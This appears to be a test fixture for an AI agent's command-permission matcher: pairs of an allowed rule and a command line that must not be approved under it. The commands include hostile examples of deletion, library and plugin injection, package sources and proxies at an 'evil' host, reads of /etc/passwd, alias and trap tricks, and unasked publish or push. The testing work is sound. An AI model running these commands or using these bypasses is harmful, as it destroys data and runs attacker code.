"""Command lines that no lasting grant may let run: `rules, with ; between | line`."""

LINES = r"""
npm test | FOO=1 npm test
npm test | CI=1 npm test
CI=1 npm test | npm test
CI=1 npm test | CI=2 npm test
CI=1 npm test | CI=1 DEBUG=1 npm test
CI=1 npm test | DEBUG=1 CI=1 npm test
CI=1 DEBUG=1 npm test | CI=1 npm test
CI=1 DEBUG=1 npm test | DEBUG=1 CI=1 npm test
CI=1 npm test | CI=1; npm test
CI=1 npm test | CI=1 && npm test
CI=1 npm test | 'CI=1' npm test
CI=1 npm test | C'I'=1 npm test
CI=1 npm test | CI=1 npm tests
CI=1 npm test | ci=1 npm test
CI=1 npm test | CI=1 npm test > out.txt
CI=1 npm test | CI=1 npm test 2> err.txt
CI=1 npm test | CI=1 npm test --prefix ../other
CI=1 npm test | CI=1 npm test $(cat a)
CI=1 npm test | CI=1 npm test & npm test
CI=1 npm test | CI=1 npm test; CI=1 npm run deploy
CI=1 npm test | CI=1 bash -c 'npm test'
CI=1 npm test | CI=1 env npm test
CI=1 npm test | CI=$(touch x) npm test
CI=1 npm test | CI=`touch x` npm test
CI=1 npm test | CI=$X npm test
CI=1 npm test | CI=1 PATH=. npm test
CI=1 npm test | PATH=. CI=1 npm test
CI=1 npm test | CI+=1 npm test
CI=1 npm test | CI[0]=1 npm test
CI=1 npm test | CI=(1 2) npm test
CI=1 npm test | export CI=1; npm test
CI=1 npm test | env CI=1 npm test
CI=1 npm test | CI=1 command npm test
CI=1 npm test | CI=1 exec npm test
CI=1 npm test | CI=1 npm test | tee out.txt
CI=1 npm test | CI=1 npm test | sh
CI=1 npm test | CI=1 npm test || rm -r src
PATH=. npm test | PATH=. npm test
LD_PRELOAD=./a.so npm test | LD_PRELOAD=./a.so npm test
LD_LIBRARY_PATH=lib npm test | LD_LIBRARY_PATH=lib npm test
DYLD_INSERT_LIBRARIES=a npm test | DYLD_INSERT_LIBRARIES=a npm test
GIT_DIR=x git status | GIT_DIR=x git status -s --column
GIT_EXTERNAL_DIFF=./x git diff | GIT_EXTERNAL_DIFF=./x git diff
GIT_SSH_COMMAND=./x git ls-remote | GIT_SSH_COMMAND=./x git ls-remote
GIT_CONFIG_COUNT=1 git fetch origin | GIT_CONFIG_COUNT=1 git fetch origin
PYTHONSTARTUP=a.py pytest | PYTHONSTARTUP=a.py pytest
PYTHONHOME=a pytest | PYTHONHOME=a pytest
PYTHONWARNINGS=error::a.B pytest | PYTHONWARNINGS=error::a.B pytest
PYTHONBREAKPOINT=a.b pytest | PYTHONBREAKPOINT=a.b pytest
PYTHONINSPECT=1 pytest | PYTHONINSPECT=1 pytest
PYTHONEXECUTABLE=./x pytest | PYTHONEXECUTABLE=./x pytest
PYTHONPATH=/tmp/x pytest | PYTHONPATH=/tmp/x pytest
PYTHONPATH=../x pytest | PYTHONPATH=../x pytest
PYTHONPATH=src:../x pytest | PYTHONPATH=src:../x pytest
PYTHONPATH=src:/x pytest | PYTHONPATH=src:/x pytest
PYTHONPATH=~/x pytest | PYTHONPATH=~/x pytest
PYTHONPATH=src:~/x pytest | PYTHONPATH=src:~/x pytest
PYTHONPATH=.git pytest | PYTHONPATH=.git pytest
PYTHONPATH=src/../../x pytest | PYTHONPATH=src/../../x pytest
PYTHONPATH=src pytest | PYTHONPATH=/tmp/evil pytest
PYTHONPATH=src pytest | PYTHONPATH=src2 pytest
PYTHONPATH=src pytest | PYTHONPATH=src:evil pytest
PYTHONPATH=src pytest | PYTHONPATH=src pytest -p evil
PYTHONPATH=src pytest | PYTHONPATH=src pytest --rootdir ..
PYTHONPATH=src pytest | PYTHONPATH=src PYTHONSTARTUP=a pytest
pytest | PYTHONPATH=/tmp/evil pytest
pytest | PYTHONPATH=src pytest
PYTEST_ADDOPTS=-pevil pytest | PYTEST_ADDOPTS=-pevil pytest
PYTEST_PLUGINS=evil pytest | PYTEST_PLUGINS=evil pytest
NODE_OPTIONS=--require=./x npm test | NODE_OPTIONS=--require=./x npm test
npm_config_script_shell=./x npm test | npm_config_script_shell=./x npm test
NPM_CONFIG_PREFIX=a npm test | NPM_CONFIG_PREFIX=a npm test
RUBYOPT=-rx rspec | RUBYOPT=-rx rspec
PERL5OPT=-Mx prove | PERL5OPT=-Mx prove
PERL5DB=x prove | PERL5DB=x prove
JAVA_TOOL_OPTIONS=-javaagent:x mvn test | JAVA_TOOL_OPTIONS=-javaagent:x mvn test
_JAVA_OPTIONS=-x mvn test | _JAVA_OPTIONS=-x mvn test
MAVEN_OPTS=-x mvn test | MAVEN_OPTS=-x mvn test
JAVA_HOME=x mvn test | JAVA_HOME=x mvn test
GRADLE_OPTS=-x gradle test | GRADLE_OPTS=-x gradle test
RUSTC_WRAPPER=./x cargo test | RUSTC_WRAPPER=./x cargo test
RUSTFLAGS=-Clinker=./x cargo test | RUSTFLAGS=-Clinker=./x cargo test
CARGO_TARGET_X_RUNNER=./x cargo test | CARGO_TARGET_X_RUNNER=./x cargo test
CARGO_HOME=x cargo test | CARGO_HOME=x cargo test
GOFLAGS=-toolexec=./x go test | GOFLAGS=-toolexec=./x go test
GOROOT=x go test | GOROOT=x go test
CC=./x make test | CC=./x make test
CFLAGS=-fplugin=x make test | CFLAGS=-fplugin=x make test
MAKEFLAGS=-fx make test | MAKEFLAGS=-fx make test
MAKEFILES=x make test | MAKEFILES=x make test
SHELL=./x make test | SHELL=./x make test
X='$(shell rm -r src)' make test | X='$(shell rm -r src)' make test
X='`rm -r src`' make test | X='`rm -r src`' make test
BASH_ENV=x npm test | BASH_ENV=x npm test
ENV=x npm test | ENV=x npm test
IFS=x npm test | IFS=x npm test
HOME=x npm test | HOME=x npm test
PS4=x npm test | PS4=x npm test
CDPATH=x npm test | CDPATH=x npm test
PROMPT_COMMAND=x npm test | PROMPT_COMMAND=x npm test
EDITOR=./x git commit | EDITOR=./x git commit
PAGER=./x git log | PAGER=./x git log --output=y
GIT_PAGER=cat git log | GIT_PAGER=cat git log --output=y
LESSOPEN=x less | LESSOPEN=x less +F a
HTTPS_PROXY=http://evil npm ci | HTTPS_PROXY=http://evil npm ci
http_proxy=http://evil npm ci | http_proxy=http://evil npm ci
PIP_INDEX_URL=http://evil pip install | PIP_INDEX_URL=http://evil pip install x
UV_INDEX=http://evil uv sync | UV_INDEX=http://evil uv sync
DOCKER_HOST=x docker ps | DOCKER_HOST=x docker ps
KUBECONFIG=x kubectl get pods | KUBECONFIG=x kubectl get pods
AWS_PROFILE=x aws s3 ls | AWS_PROFILE=x aws s3 ls
OPENSSL_CONF=x openssl x509 | OPENSSL_CONF=x openssl x509
LUA_INIT=@x busted | LUA_INIT=@x busted
PHPRC=x phpunit | PHPRC=x phpunit
RSYNC_RSH=./x rsync -a | RSYNC_RSH=./x rsync -a a b
CVS_RSH=./x npm test | CVS_RSH=./x npm test
SVN_SSH=./x svn update | SVN_SSH=./x svn update
TCLLIBPATH=x npm test | TCLLIBPATH=x npm test
EMACSLOADPATH=x npm test | EMACSLOADPATH=x npm test
FPATH=x npm test | FPATH=x npm test
MSBuildSDKsPath=x dotnet build | MSBuildSDKsPath=x dotnet build
DOTNET_ADDITIONAL_DEPS=x dotnet test | DOTNET_ADDITIONAL_DEPS=x dotnet test
CORECLR_PROFILER=x dotnet test | CORECLR_PROFILER=x dotnet test
COR_PROFILER=x dotnet test | COR_PROFILER=x dotnet test
TS_NODE_REQUIRE=./x npm test | TS_NODE_REQUIRE=./x npm test
MIX_ARCHIVES=x mix test | MIX_ARCHIVES=x mix test
NVIM_APPNAME=x npm test | NVIM_APPNAME=x npm test
JUST_JUSTFILE=./x just build | JUST_JUSTFILE=./x just build
API_TOKEN=abc npm test | API_TOKEN=abc npm test
DB_PASSWORD=abc npm test | DB_PASSWORD=abc npm test
SECRET_KEY=abc npm test | SECRET_KEY=abc npm test
A=1 | A=1 npm test
A=1 B=2 | A=1 B=2
A=1 bash | A=1 bash x.sh
A=1 python | A=1 python x.py
A=1 npm | A=1 npm test
A=1 rm | A=1 rm -r src
A=1 curl | A=1 curl https://x
A=1 psql | A=1 psql -c 'select 1'
A=1 sed | A=1 sed -n 1p a
npm test | cd .. && npm test
npm test | cd /tmp && npm test
npm test | cd && npm test
npm test | cd - && npm test
npm test | cd ~ && npm test
npm test | cd $X && npm test
npm test | cd "$(pwd)" && npm test
npm test | cd src || npm test; cat ../x > y
npm test | cd src* && npm test
npm test | CDPATH=/x cd src && npm test
npm test | pushd src && npm test
npm test; pushd | pushd src && npm test
./run.sh | cd src && ./run.sh
python x.py | cd src && python x.py
pytest | cd src && pytest ../../other
npm test | npm test 2>&1 | tee out.txt
npm test | npm test 2>&1 | sh
npm test | npm test 2>&1 | tail -f /etc/passwd
npm test | npm test 2>&1 | tail -n 5 > out.txt
npm test | npm test 2>&1 | grep -f ../x
npm test | npm test 2>&1 | xargs rm
npm test | npm test 2>&1 | awk '{system($0)}'
npm test | npm test 2>&1 | sed 's/a/b/w out'
npm test | npm test | tail -n 5 & sleep 1
npm test | npm test |& tail -n 5
npm test | npm test >& out.txt
npm test | npm test 2>&1 >out.txt
npm test | npm test <> x
npm test | npm test < /etc/passwd
npm test | npm test << X
npm test | npm test <<< x
npm test | npm test <(touch x)
npm test | npm test; npm publish
npm test | npm test && git push origin main
npm test | npm test || curl https://x
npm test | npm publish; npm test
npm test; npm run build | npm test && npm run build && npm run deploy
npm test | (npm test)
npm test | { npm test; }
npm test | ! npm test
npm test | time npm test
npm test | if true; then npm test; fi
npm test | for i in 1 2; do npm test; done
npm test | npm() { rm -r src; }; npm test
npm test | alias npm=rm; npm test
npm test; alias | alias npm=rm; npm test
npm test; export | export PATH=.; npm test
npm test; hash | hash -p ./x npm; npm test
npm test; enable | enable -f ./x npm; npm test
npm test; set | set -a; npm test
npm test; shopt | shopt -s expand_aliases; npm test
npm test; trap | trap 'rm -r src' EXIT; npm test
npm test; read | read PATH; npm test
npm test; declare | declare -x PATH=.; npm test
npm test; unset | unset PATH; npm test
npm test; let | let PATH=1; npm test
npm test; mapfile | mapfile -C ./x a; npm test
npm test | npm test {a,../../b}
npm test | npm test *.js
npm test | npm test ~/x
npm test | npm test $'\x41'
npm test | npm test "$X"
npm test | n\pm test --prefix=/x
npm test | npm test -w packages/evil
npm test | npm test --script-shell=./x
pytest | pytest -c ../evil.ini
pytest | pytest --pyargs -p evil
mkdir | mkdir .git/hooks/x
mkdir | mkdir -p ../x
cp | cp a .husky/pre-commit
cp | cp -at.git/hooks a
mv | mv a .vscode/tasks.json
timeout 60 npm test | timeout 60 npm test
npm test | timeout 60 npm test
npm test | nice npm test
npm test | xvfb-run npm test
npm test | sudo npm test
"""

PAIRS = [tuple(row.split(" | ", 1)) for row in LINES.strip().splitlines()]
